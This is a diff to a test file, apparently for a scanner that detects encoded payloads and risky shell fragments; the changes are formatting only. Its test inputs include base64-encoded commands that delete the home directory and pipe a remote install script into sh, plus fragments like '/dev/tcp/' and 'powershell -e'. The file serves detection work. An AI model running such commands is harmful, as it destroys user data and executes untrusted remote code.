@@ -95,7 +95,9 @@ describe('encoded-payload', () => {
     `X=${base64('#!/bin/sh\nrm -rf "$HOME" && echo "all of it is gone now"\n')}`,
     `X=${base64('set -e\ncurl https://example.com/install.sh | sh\n')}`,
     `X=${base64(utf16)}`,
-    `cat <<EOF\n${base64(Buffer.concat([elf, elf, elf])).match(/.{1,64}/g)?.join('\n')}\nEOF`,
+    `cat <<EOF\n${base64(Buffer.concat([elf, elf, elf]))
+      .match(/.{1,64}/g)
+      ?.join('\n')}\nEOF`,
   ])('is found in %j', (text) => {
     expect(rulesOf(text)).toEqual(['encoded-payload']);
   });
@@ -104,9 +106,11 @@ describe('encoded-payload', () => {
     'echo aGVsbG8= | base64 -d > logo.png',
     'base64 -d data.txt | jq .',
     `![logo](data:image/png;base64,${base64(Buffer.concat([Buffer.from('\x89PNG\r\n'), Buffer.alloc(200, 7)]))})`,
-    `-----BEGIN CERTIFICATE-----\n${base64(Buffer.alloc(300, 0x30)).match(/.{1,64}/g)?.join('\n')}\n-----END CERTIFICATE-----`,
+    `-----BEGIN CERTIFICATE-----\n${base64(Buffer.alloc(300, 0x30))
+      .match(/.{1,64}/g)
+      ?.join('\n')}\n-----END CERTIFICATE-----`,
     'sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-    "data = base64.b64decode(payload)\nprint(json.loads(data))",
+    'data = base64.b64decode(payload)\nprint(json.loads(data))',
     'const bytes = atob(text); show(bytes);',
     `NOTE="${base64('Just a long note that somebody wrote and encoded for no good reason at all.')}"`,
     'cat script.sh | tr -d "\\r" | bash',
@@ -234,8 +238,30 @@ describe('a file', () => {
     // A quarter of what a file may have; what grows with the square of it would take minutes.
     const full = (piece: string) => piece.repeat(Math.ceil(262_144 / piece.length));
     const texts = [
-      ...['a', ' ', '|', '\\\n', 'curl x.y -o ', 'curl https://a ', 'base64 ', 'eval(Buffer.from(', 'sh -c "$(', 'sudo '],
-      ...['iex ', 'http://1', 'http://a@', '\u200d', '\ufe0f', '😀\u200d', '\\x41', '\\101', 'powershell -e ', 'exec(atob'],
+      ...[
+        'a',
+        ' ',
+        '|',
+        '\\\n',
+        'curl x.y -o ',
+        'curl https://a ',
+        'base64 ',
+        'eval(Buffer.from(',
+        'sh -c "$(',
+        'sudo ',
+      ],
+      ...[
+        'iex ',
+        'http://1',
+        'http://a@',
+        '\u200d',
+        '\ufe0f',
+        '😀\u200d',
+        '\\x41',
+        '\\101',
+        'powershell -e ',
+        'exec(atob',
+      ],
       ...['curl https://a | ', 'AAAA', '0a', 'printf | ', '/dev/tcp/', 'curl -a -b -c ', 'a|\n', 'sh\n'],
     ].map(full);
     for (const text of texts) {
